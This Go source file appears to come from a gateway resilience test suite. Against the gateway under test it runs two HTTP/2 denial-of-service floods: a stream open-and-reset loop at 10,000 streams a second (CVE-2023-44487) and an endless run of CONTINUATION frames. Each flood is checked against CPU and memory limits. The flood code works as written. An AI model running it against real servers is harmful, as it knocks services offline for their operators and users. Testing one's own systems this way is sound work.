package main

import (
	"bytes"
	"context"
	"errors"
	"fmt"
	"io"
	"net"
	"strings"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

const (
	resetRate = 10_000 // streams a second
	resetTime = 4 * time.Second
	mostCPU   = 5 // percent of a core for one attacker's connection
)

// streams are the floods that only HTTP/2 has, in clear text (h2c): a head without an end
// and streams that are opened and reset at once (CVE-2023-44487).
func (h *house) streams(ctx context.Context) ([]finding, error) {
	head, err := h.endlessHead()
	if err != nil {
		return nil, err
	}
	before, err := h.calm(ctx)
	if err != nil {
		return nil, err
	}
	w, err := h.watch()
	if err != nil {
		return nil, err
	}
	type ended struct {
		n    int
		lost error
		took time.Duration
		err  error
	}
	done := make(chan ended, 1)
	go func() {
		var e ended
		began := time.Now()
		e.n, e.lost, e.err = h.resets()
		e.took = time.Since(began)
		done <- e
	}()
	meanwhile, err := h.others(ctx, func(n int) bool { return n < 1 })
	e := <-done
	last, stopped := w.stop()
	if err := errors.Join(err, e.err, stopped); err != nil {
		return nil, err
	}
	spent := last.cpu - w.before.cpu
	share := 100 * spent.Seconds() / last.at.Sub(w.before.at).Seconds()
	outcome := "the connection was served on"
	if e.lost != nil {
		outcome = fmt.Sprintf("closed after %v", e.took.Round(10*time.Millisecond))
	}
	c := compared(before, meanwhile)
	c.what = "streams reset: " + c.what
	return []finding{head,
		demanded("streams opened and reset, one connection", fmt.Sprintf("%d in %.1f s; %.1f %% of a core, %.0f µs each, 800 calls of others included; %s",
			e.n, e.took.Seconds(), share, spent.Seconds()*1e6/float64(e.n), outcome), fmt.Sprintf("at most %d %% of a core", mostCPU), share <= mostCPU),
		demanded("memory at most then", fmt.Sprintf("%.1f MB more", w.most(resident)-w.before.resident), fmt.Sprintf("%d MB", mostFlooded), w.most(resident)-w.before.resident <= mostFlooded),
		c,
	}, nil
}

// speak opens an HTTP/2 connection and reads away what comes until it ends.
func (h *house) speak() (net.Conn, *http2.Framer, <-chan struct{}, error) {
	conn, err := net.DialTimeout("tcp", h.gateway, floodPatience)
	if err != nil {
		return nil, nil, nil, err
	}
	if err := conn.SetDeadline(time.Now().Add(floodPatience)); err != nil {
		return nil, nil, nil, errors.Join(err, conn.Close())
	}
	f := http2.NewFramer(conn, nil)
	if _, err := io.WriteString(conn, http2.ClientPreface); err != nil {
		return nil, nil, nil, errors.Join(err, conn.Close())
	}
	if err := f.WriteSettings(); err != nil {
		return nil, nil, nil, errors.Join(err, conn.Close())
	}
	closed := make(chan struct{})
	go func() {
		defer close(closed)
		_, _ = io.Copy(io.Discard, conn) // how it ends does not matter
	}()
	return conn, f, closed, nil
}

// endlessHead sends CONTINUATION frames until the gateway closes.
func (h *house) endlessHead() (finding, error) {
	conn, f, closed, err := h.speak()
	if err != nil {
		return finding{}, err
	}
	defer conn.Close()
	before, err := h.state()
	if err != nil {
		return finding{}, err
	}
	// :method GET, then literal fields x: yyy…
	if err := f.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: []byte{0x82}, EndStream: true}); err != nil {
		return finding{}, err
	}
	block := []byte(strings.Repeat("\x00\x01x\x7f\x81\x01"+strings.Repeat("y", 256), 40))
	sent, began := 0, time.Now()
	for sent < 64<<20 && f.WriteContinuation(1, false, block) == nil {
		sent += len(block)
	}
	select {
	case <-closed:
	case <-time.After(floodPatience):
		return finding{}, errors.New("a head without an end is still waited for")
	}
	took := time.Since(began)
	after, err := h.state()
	const most = 16 // MB; the sockets between hold some of them
	return demanded("CONTINUATION without an end", fmt.Sprintf("closed after %d KB and %.0f ms; %.0f ms of processor time, %.1f MB more",
		sent>>10, ms(took), ms(after.cpu-before.cpu), after.resident-before.resident),
		fmt.Sprintf("closed within %d MB", most), sent <= most<<20), err
}

// resets opens streams at resetRate and resets each at once, until the gateway has had
// enough: lost says how.
func (h *house) resets() (n int, lost, err error) {
	conn, f, closed, err := h.speak()
	if err != nil {
		return 0, nil, err
	}
	defer func() {
		conn.Close()
		<-closed
	}()
	var block bytes.Buffer
	coder := hpack.NewEncoder(&block)
	began := time.Now()
	for time.Since(began) < resetTime {
		block.Reset()
		for _, field := range [][2]string{{":method", "GET"}, {":scheme", "http"}, {":path", "/a"}, {":authority", h.host}} {
			if err := coder.WriteField(hpack.HeaderField{Name: field[0], Value: field[1]}); err != nil {
				return n, nil, err
			}
		}
		id := uint32(2*n + 1)
		if lost = f.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block.Bytes(), EndStream: true, EndHeaders: true}); lost != nil {
			return n, lost, nil
		}
		if lost = f.WriteRSTStream(id, http2.ErrCodeCancel); lost != nil {
			return n, lost, nil
		}
		n++
		if ahead := time.Duration(n)*time.Second/resetRate - time.Since(began); ahead > time.Millisecond {
			time.Sleep(ahead)
		}
	}
	return n, nil, nil
}
